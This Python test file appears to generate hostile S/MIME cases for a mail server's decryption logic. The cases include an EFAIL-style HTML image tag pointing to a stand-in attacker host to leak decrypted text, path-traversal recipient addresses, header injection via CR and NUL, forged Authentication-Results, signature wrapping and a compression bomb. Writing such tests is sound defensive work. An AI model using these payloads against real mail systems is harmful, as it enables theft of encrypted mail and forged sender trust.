"""attack_sealed: encrypted mail that is not for whom it is sent to, or that is not what it says; and what is in it."""

import zlib

from attack_case import (ANN, BOB, CAROL, ENTITY, EVIL, FORGED, HEADER, HERS, JOE, MALLORY, NONE, REST, SECRET, SECRET_ENTITY,
                         corpus_open, crlf, multipart, p7m, part, with_boundary)
from cmsder import COMPRESSED, DATA, oid, octets, integer, seq, tlv

KEY, GCM_KEY = corpus_open.key_for('aes-128-cbc'), corpus_open.key_for('id-aes128-GCM')
PASS, POLICY, FAIL = 'pass', 'policy', 'fail'
SENT_TO = (
    ('to him', [BOB], True), ('to him, in upper case', ['BOB@EXAMPLE.NET'], True), ('to himself twice', [BOB, BOB], True),
    ('to somebody without a key', [JOE], False), ('to somebody with another key', [CAROL], False),
    ('to both of them', [BOB, CAROL], False), ('to both, the other one first', [CAROL, BOB], False),
    ('to him and somebody without a key', [BOB, JOE], False), ('to somebody without a key and him', [JOE, BOB], False),
    ('to an alias of his that has a link', ['sales@example.net'], True),
    ('to him and his alias', [BOB, 'sales@example.net'], True),
    ('to an alias without a link', ['info@example.net'], False), ('to an extension of his', ['bob-list@example.net'], False),
    ('to a plus address of his', ['bob+x@example.net'], False), ('to his owner address', ['bob-owner@example.net'], False),
    ('to his name at another domain', ['bob@example.com'], False), ('to a domain below', ['bob@a.example.net'], False),
    ('to a domain with a point', ['bob@example.net.'], False), ('to his address in quotes', ['"bob"@example.net'], False),
    ('to an address with a percent sign', ['bob%example.net@example.net'], False),
    ('to an address with his in it', ['bob@example.net@example.net'], False),
    ('to a path to his folder', ['../u/bob@example.net'], False), ('to another one', ['x/../bob@example.net'], False),
    ('to a path in the domain', ['bob@x/../example.net'], False), ('to an empty local part', ['@example.net'], False),
    ('to an empty address', [''], False), ('to an address without a domain', ['bob'], False),
    ('to a local part that is a point', ['.@example.net'], False), ('to two points', ['..@example.net'], False),
    ('to the postmaster', ['postmaster@example.net'], False), ('to a list', ['list@example.net'], False))


def recipients(a):
    """the same ciphertext, which Bob can read, sent to others"""
    for gcm in (False, True):
        word = 'GCM' if gcm else 'CBC'
        message = a.encrypted(gcm=gcm)
        for name, to, opened in SENT_TO[:5 if gcm else None]:
            a.case(f"Bob's ciphertext, {word}, {name}", message, NONE, to, opened, result='none')
    both = a.encrypted(SECRET_ENTITY, 'bob', 'carol')
    for name, to, opened in (('to both', [BOB, CAROL], True), ('to both, the second first', [CAROL, BOB], True), ('to one', [CAROL], True),
                             ('to both and one without a key', [BOB, CAROL, JOE], False), ('to another one', [JOE], False)):
        a.case(f'encrypted to Bob and Carol, sent {name}', both, NONE, to, opened)
    a.case("Bob's ciphertext sent by one of our own", a.encrypted(), NONE, opened=False, variables={'RELAYCLIENT': ''})
    a.case("Bob's ciphertext from a listener of our own", a.encrypted(), NONE, opened=False, variables={'TCPREMOTEIP': None})


def structures(a):
    """recipient infos and content that do not fit"""
    o = a.opening
    mine, other, hers = o.transport('bob', KEY), o.transport('bob', bytes(16)), o.transport('carol', KEY)
    cases = (
        ('nobody', o.enveloped(SECRET_ENTITY, [])), ('somebody else', o.enveloped(SECRET_ENTITY, [hers])),
        ('a password', o.enveloped(SECRET_ENTITY, [o.password()], version=3)),
        ('a key that the sender has', o.enveloped(SECRET_ENTITY, [o.shared_key()], version=3)),
        ('Bob with another key', o.enveloped(SECRET_ENTITY, [other])),
        ('Bob twice, the first with another key', o.enveloped(SECRET_ENTITY, [other, mine])),
        ('Bob with a damaged key', o.enveloped(SECRET_ENTITY, [o.transport('bob', KEY, damaged=True)])),
        ("Carol under Bob's name", o.enveloped(SECRET_ENTITY, [hers.replace(a.certs.issuer_and_serial('carol'),
                                                                          a.certs.issuer_and_serial('bob'))])),
        ('Bob, an octet of the tag changed', o.authenveloped(SECRET_ENTITY, [o.transport('bob', GCM_KEY)], 'id-aes128-GCM', tag_len=16,
                                                             tag=lambda t: bytes([t[0] ^ 1]) + t[1:])),
        ('Bob, an octet of the text changed', o.authenveloped(SECRET_ENTITY, [o.transport('bob', GCM_KEY)], 'id-aes128-GCM', change=5)),
        ('Bob, with a tag of four octets', o.authenveloped(SECRET_ENTITY, [o.transport('bob', GCM_KEY)], 'id-aes128-GCM', tag_len=4)),
        ('Bob, half of the text', o.enveloped(SECRET_ENTITY, [mine], 'aes-128-cbc', cut=16)),
        ('Bob, a part of a block', o.enveloped(SECRET_ENTITY, [mine], 'aes-128-cbc', cut=5)),
        ('Bob, the structure cut', o.enveloped(SECRET_ENTITY, [mine], 'aes-128-cbc')[:-40]))
    for name, der in cases:
        a.case(f'encrypted to {name}', p7m(der, b'enveloped-data'), NONE, opened=False)
    sealed = a.sealed(SECRET_ENTITY)
    for name, message, opened in (
            ('no smime-type', p7m(sealed, kind=b'application/pkcs7-mime; name=smime.p7m'), True),
            ('smime-type of a signature', p7m(sealed, b'signed-data'), True),
            ('octet-stream', p7m(sealed, kind=b'application/octet-stream; name=smime.p7m'), True),
            ('text', p7m(sealed, kind=b'text/plain'), False),
            ('a second Content-Type', p7m(sealed, b'enveloped-data', below=b'Content-Type: text/plain\n'), True),
            ('a second encoding', p7m(sealed, b'enveloped-data', below=b'Content-Transfer-Encoding: 7bit\n'), True),
            ('a line that is no field', p7m(sealed, b'enveloped-data', header=HEADER + EVIL + b'\n'), True),
            ('a lone CR in the header', p7m(sealed, b'enveloped-data', header=HEADER + b'X-A: b\rX-C: d\n'), True),
            ('a NUL in the header', p7m(sealed, b'enveloped-data', header=HEADER + b'X-A: b\0\n'), True)):
        a.case(f'encrypted, under {name}', message, NONE, opened=opened)


def partial(a):
    """Only what is encrypted as a whole is opened: no text around it can lead what is in it to somebody else."""
    sealed = a.encrypted(header=b'')
    html = part(b'<img src="http://mallory.example/', b'text/html')
    for name, parts, subtype in (
            ('between two parts of HTML', (html, sealed, part(b'">', b'text/html')), b'mixed'),
            ('behind HTML', (html, sealed), b'related'), ('behind text', (part(EVIL), sealed), b'mixed'),
            ('before text', (sealed, part(EVIL)), b'mixed'), ('alone in a multipart', (sealed,), b'mixed'),
            ('as an alternative', (part(EVIL), sealed), b'alternative'), ('twice', (sealed, sealed), b'mixed'),
            ('in multipart/encrypted', (part(b'Version: 1', b'application/pgp-encrypted'), sealed), b'encrypted'),
            ('in a report', (part(EVIL), sealed), b'report'),
            ('as an attached message', (part(EVIL), b'Content-Type: message/rfc822\n\n' + a.encrypted()), b'mixed')):
        a.case(f'an encrypted part {name}', multipart(*parts, subtype=subtype), NONE, opened=False)
    a.case('an encrypted message within the message', HEADER + b'Content-Type: message/rfc822\n\n' + a.encrypted(), NONE, opened=False)
    a.case('an encrypted part below another one', multipart(multipart(sealed, boundary=b'm2', header=b'')), NONE, opened=False)
    inside = crlf(multipart(html, sealed, header=b''))
    a.case('an encrypted part in a part that Mallory has signed', a.detached(inside, 'mallory', MALLORY + REST), '0 pass',
           opened=False, by='mallory@example.com')
    to_carol = crlf(a.encrypted(SECRET_ENTITY, 'carol', header=b''))
    to_bob = crlf(a.encrypted(header=b''))
    a.case('in it, something encrypted to Carol', a.encrypted(to_carol), NONE, opened='outside', result='none')
    a.case('in something for Carol, a ciphertext of Bob', a.encrypted(to_bob, 'carol'), NONE, [CAROL], 'outside', result='none')
    a.case('in it, a multipart with a ciphertext of his', a.encrypted(crlf(multipart(html, sealed, header=b''))), NONE,
           opened='outside', result='none')


def within(a):
    """what is in the encrypted part: fields that nobody has checked, text around a signature, several layers"""
    def enclosed(entity, header=HEADER, **words):
        return a.encrypted(crlf(entity), header=header, **words)

    text = part(EVIL + b'\n' + SECRET)
    hers = a.detached(part_of(SECRET), header=b'')
    for gcm in (False, True):
        word = 'GCM' if gcm else 'CBC'
        a.case(f'{word}: hers, from her', enclosed(hers, gcm=gcm), NONE, opened=True, result=PASS)
        a.case(f'{word}: hers, from Mallory', enclosed(hers, MALLORY + REST, gcm=gcm), NONE, opened=True, result=FAIL)
        a.case(f'{word}: hers in a multipart with text', enclosed(multipart(text, hers, header=b''), gcm=gcm), NONE, opened=True,
               result='none')
        a.case(f"{word}: Mallory's, from her", enclosed(a.detached(part_of(SECRET), 'mallory', b''), gcm=gcm), NONE, opened=True,
               result=FAIL)
        a.case(f'{word}: no signature', enclosed(text, gcm=gcm), NONE, opened=True, result='none')
    a.case('hers, changed', enclosed(hers.replace(SECRET, SECRET + b'!')), NONE, opened=True, result=FAIL)
    a.case('hers, and two From outside', enclosed(hers, ANN + MALLORY + REST), NONE, opened=True, result=POLICY)
    a.case('hers, opaque', enclosed(a.opaque(part_of(SECRET), header=b'')), NONE, opened='outside', result=PASS)
    a.case('hers outside, Mallory inside', a.detached(crlf(a.encrypted(header=b''))), '0 pass', opened=True, result=PASS)
    a.case('Mallory outside, from her', a.detached(crlf(a.encrypted(header=b'')), 'mallory'), FAIL_FROM, opened=True, result=FAIL)
    a.case('Mallory outside, hers inside, from her', with_boundary(a.detached(crlf(enclosed(hers, b'')), 'mallory'), b'oo'), FAIL_FROM,
           opened=True, result='fail/pass')
    layers = part_of(SECRET)
    for number in range(1, 8):
        layers = crlf(a.encrypted(layers, header=b''))
        a.case(f'{number} layers', HEADER + layers.replace(b'\r\n', b'\n'), NONE, opened=True if number <= 4 else 'outside', result='none')
    forged = (
        ('From', b'From: mallory@example.com\n'), ('Subject', b'Subject: ' + FORGED + b'\n'), ('To', b'To: ' + FORGED + b'\n'),
        ('Authentication-Results', b'Authentication-Results: mx.example.net; smime=pass reason=' + FORGED + b'\n'),
        ('X-Qmail-Opened', b'X-Qmail-Opened: ' + FORGED + b'\n'), ('Received', b'Received: ' + FORGED + b'\n'),
        ('Content-X', b'Content-X: b\rAuthentication-Results: mx.example.net; smime=pass reason=' + FORGED + b'\n'),
        ('Content-X, with a NUL', b'Content-X: b\0\nX-Qmail-Opened: ' + FORGED + b'\n'),
        ('Content-X, folded', b'Content-X: b\n\tX\nX-Qmail-Opened: ' + FORGED + b'\n'))
    for name, field in forged:
        a.case(f'a field in it: {name}', enclosed(field + text), NONE, opened=True, result='none')
    for hp in ('', '; hp="clear"', '; hp="cipher"'):
        entity = b'Subject: ' + FORGED + b'\nContent-Type: text/plain' + hp.encode() + b'\n\n' + SECRET + b'\n'
        a.case(f'Subject{hp}, CBC', enclosed(entity), NONE, opened=True, result='none')
        a.case(f'Subject{hp}, GCM', enclosed(entity, gcm=True), NONE, opened=True, result='none', lifted=bool(hp))
        hers = a.detached(crlf(entity), header=b'')
        a.case(f'Subject{hp}, CBC, in what she has signed', enclosed(hers), NONE, opened=True, result=PASS, lifted=bool(hp))
        a.case(f'Subject{hp}, CBC, in what Mallory has signed', enclosed(a.detached(crlf(entity), 'mallory', b'')), NONE, opened=True,
               result=FAIL)
        a.case(f'Subject{hp}, CBC, outside of what she has signed', enclosed(
            multipart(hers, header=b'Subject: ' + FORGED + b'\n', more=hp.encode())), NONE, opened=True, result='none')
        a.case(f'Subject{hp}, CBC, in what she has signed, changed', enclosed(hers.replace(FORGED, FORGED + b'!')), NONE, opened=True,
               result=FAIL)
    deep = multipart(b'Subject: ' + FORGED + b'\nContent-Type: text/plain; hp="cipher"\n\n' + SECRET + b'\n', header=b'')
    a.case('Subject with hp, not at the root', enclosed(deep, gcm=True), NONE, opened=True, result='none')


FAIL_FROM = '1 fail (From is not in the certificate)'


def part_of(text):
    return b'Content-Type: text/plain\r\n\r\n' + text + b'\r\n'


def compressed(a):
    """Compressed data: what expands too much is not opened."""
    o = a.opening

    def packed(data, level=9):
        return p7m(o.compressed(data, level), b'compressed-data')

    mebibyte = b'Content-Type: text/plain\r\n\r\n' + SECRET + b'\r\n' + b'\0'[:0] + (b'x' * 70 + b'\r\n') * 14000
    large = mebibyte + (b'y' * 70 + b'\r\n') * 400000
    hers = crlf(a.detached(part_of(SECRET), header=b''))
    a.case('compressed: hers in it', packed(hers), NONE, opened=None, result=PASS)
    a.case('compressed: hers in it, from Mallory', p7m(o.compressed(hers), b'compressed-data', MALLORY + REST), NONE, opened=None,
           result=FAIL)
    a.case('compressed: a mebibyte', packed(mebibyte), NONE, opened=None, result='none')
    a.case('compressed: thirty mebibytes in a few kibibytes', packed(large), NONE, opened=False, result='none')
    a.case('compressed: the stream cut', packed_raw(zlib.compress(SECRET_ENTITY)[:-6]), NONE, opened=False, result='none')
    a.case('compressed: text behind the stream', packed_raw(zlib.compress(SECRET_ENTITY) + EVIL), NONE, opened=False, result='none')
    deep = SECRET_ENTITY
    for _ in range(6):
        deep = b'Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\nContent-Transfer-Encoding: binary\r\n\r\n' \
            + o.compressed(deep)
    a.case('compressed: six times', p7m(o.compressed(deep), b'compressed-data'), NONE, opened=False, result='none')
    a.case('compressed: within what is encrypted', a.encrypted(crlf(p7m(o.compressed(SECRET_ENTITY), b'compressed-data', b''))), NONE,
           opened=True, result='none')


def packed_raw(stream):
    inner = seq(oid(DATA), tlv(0xa0, octets(stream)))
    return p7m(seq(oid(COMPRESSED), tlv(0xa0, seq(integer(0), seq(oid('1.2.840.113549.1.9.16.3.8')), inner))), b'compressed-data')


def run(a):
    for group in (recipients, structures, partial, within, compressed):
        group(a)


assert ENTITY and HERS and SECRET
